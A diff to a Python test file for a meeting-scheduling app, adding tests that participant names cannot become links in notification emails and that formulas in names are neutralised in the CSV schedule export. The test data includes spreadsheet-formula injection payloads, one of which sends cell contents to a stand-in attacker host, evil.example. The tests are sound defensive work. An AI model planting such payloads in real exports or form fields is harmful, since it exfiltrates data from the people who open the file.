@@ -159,6 +159,25 @@ def test_a_declined_request_tells_the_requester(event):
     assert queue_meeting_notices() == 0
 
 
+def test_names_in_meeting_emails_never_become_links(event, settings):
+    from post_office.models import Email
+
+    from safecities.cities.emails import queue_meeting_notices
+
+    amina, ben = participant(event, "Amina"), participant(event, "Ben")
+    name = '=HYPERLINK("http://evil.example/","Open") https://evil.example/x'
+    type(amina).objects.filter(pk=amina.pk).update(name=name)
+    amina.refresh_from_db()
+    services.request_meeting(requester=amina, invitee=ben, message="See www.evil.example")
+    queue_meeting_notices()
+    html = Email.objects.get().html_message
+    assert "evil.example" in html
+    assert 'href="http://evil' not in html
+    assert 'href="https://evil' not in html
+    assert "www.evil.example</a>" not in html
+    assert html.count("<a href=") == html.count(f'<a href="{settings.SITE_URL}/') == 1
+
+
 # --- Pages ------------------------------------------------------------------------------------
 
 
@@ -231,11 +250,23 @@ def test_organisers_export_the_schedule_as_csv(client, event):
     booked(event)
     sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
     response = client.get("/cities/meetings/durban-2014/schedule.csv")
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:5] == ["starts", "ends", "slot", "table", "requester"]
     assert [(r[0], r[2], r[3], r[4], r[7]) for r in rows[1:]] == [
         ("2014-01-01 10:00", "Tea break 1", "Table 1", "Amina", "Ben"),
         ("2014-01-01 12:00", "Tea break 2", "Table 1", "Carla", "Amina")]
+
+
+def test_the_schedule_csv_neutralises_formulas_in_names(client, event):
+    amina, ben = participant(event, "Amina"), participant(event, "Ben")
+    services.accept(meeting=services.request_meeting(requester=amina, invitee=ben, message="x"),
+                    by=ben)
+    type(amina).objects.filter(pk=amina.pk).update(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    client.force_login(UserFactory(username="organiser", is_staff=True))
+    response = client.get("/cities/meetings/durban-2014/schedule.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][4] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
 
 
 def test_organisers_print_a_schedule_per_table(client, event):
